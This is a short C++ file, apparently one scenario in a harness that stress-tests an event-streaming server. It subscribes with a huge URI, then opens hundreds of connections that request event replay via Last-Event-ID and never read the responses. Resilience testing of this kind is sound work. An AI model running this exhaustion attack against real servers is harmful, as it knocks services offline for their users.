// Requests the stored events of a session again and again, without reading them.
#include "attack/clients.hpp"

namespace attack {

void replay_abuse(Field& field) {
    const std::string uri = "note://a/" + std::string(60'000, 'u');
    field.in_parallel([&](int) {
        Wire wire = field.connect();
        const std::string session = field.begin(wire);
        if (session.empty()) return;
        wire.ask(field.post_in(session, message("resources/subscribe", "\"uri\":\"" + uri + "\"")), field.until);
        Wire listener = field.connect();
        listener.send(listen(session, field.credentials), field.until);
        wire.ask(field.post_in(session, call_message("touch", "{\"uri\":\"" + uri + "\",\"times\":20}")), field.until);
        for (int i = 0; i < 400 && !field.is_over(); ++i) {
            Wire again = field.connect(4096);
            const std::string last = "Last-Event-ID: " + std::to_string(1 + i % 8) + "-0\r\n";  // of some stream
            if (again.send(listen(session, last + field.credentials), field.until)) field.count();
            field.keep(std::move(again));
        }
        field.keep(std::move(listener));
    });
}

}  // namespace attack
